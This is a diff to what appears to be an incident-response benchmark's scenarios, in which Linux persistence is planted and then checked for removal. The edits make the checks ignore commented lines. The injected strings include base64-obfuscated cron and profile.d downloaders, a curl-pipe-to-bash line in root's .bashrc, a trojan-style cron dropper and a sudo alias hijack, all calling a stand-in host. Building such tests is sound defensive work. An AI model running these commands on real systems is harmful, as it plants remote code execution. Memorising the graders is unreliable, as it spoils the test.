@@ -50,7 +50,7 @@ echo /opt/maths/lib >/etc/ld.so.conf.d/00-maths.conf; ldconfig`),
     inject: sh(
       `printf 'SHELL=/bin/bash\\n*/7 * * * * root { echo d2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuOS94IHwgc2g= | base64 -d | bash; } >/dev/null 2>&1\\n' >/etc/cron.d/php-session`,
     ),
-    oracle: ask('! grep -q base64 /etc/cron.d/php-session 2>/dev/null'),
+    oracle: ask('! grep -q "^[^#]*base64" /etc/cron.d/php-session 2>/dev/null'),
     names: /php-session/,
   },
   {
@@ -59,14 +59,14 @@ echo /opt/maths/lib >/etc/ld.so.conf.d/00-maths.conf; ldconfig`),
     inject:
       sh(`printf '#!/bin/sh\\nPATH=/bin:/sbin:/usr/bin:/usr/sbin\\nfor i in \\\`cat /proc/net/dev|grep :|awk -F: {'"'"'print $1'"'"'}\\\`; do ifconfig $i up& done\\ncp /lib/libudev.so /lib/libudev.so.6\\n/lib/libudev.so.6\\n' >/etc/cron.hourly/gcc.sh; chmod 755 /etc/cron.hourly/gcc.sh
 printf '*/3 * * * * root /etc/cron.hourly/gcc.sh\\n' >>/etc/crontab`),
-    oracle: ask('! grep -q gcc.sh /etc/crontab && ! test -x /etc/cron.hourly/gcc.sh'),
+    oracle: ask('! grep -q "^[^#]*gcc.sh" /etc/crontab && ! test -x /etc/cron.hourly/gcc.sh'),
     names: /gcc\.sh/,
   },
   {
     id: 'bashrc-root-curl',
     complaint: 'Root shells start slowly, and the router shows odd connections.',
     inject: sh(`printf '\\n(curl -fsSL http://203.0.113.9/b || wget -qO- http://203.0.113.9/b)|bash >/dev/null 2>&1 &\\n' >>/root/.bashrc`),
-    oracle: ask('! grep -q 203.0.113.9 /root/.bashrc'),
+    oracle: ask('! grep -q "^[^#]*203.0.113.9" /root/.bashrc'),
     names: /\/root\/\.bashrc/,
   },
   {
@@ -84,7 +84,7 @@ printf 'alias sudo=/home/alice/.local/.s/sudo\\n' >>/home/alice/.bash_aliases; c
     inject: sh(
       `printf 'eval "$(printf %%s Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveHxzaA== | base64 --decode)"\\n' >/etc/profile.d/locale-fix.sh`,
     ),
-    oracle: ask('! grep -q base64 /etc/profile.d/locale-fix.sh 2>/dev/null'),
+    oracle: ask('! grep -q "^[^#]*base64" /etc/profile.d/locale-fix.sh 2>/dev/null'),
     names: /locale-fix\.sh/,
   },
   {
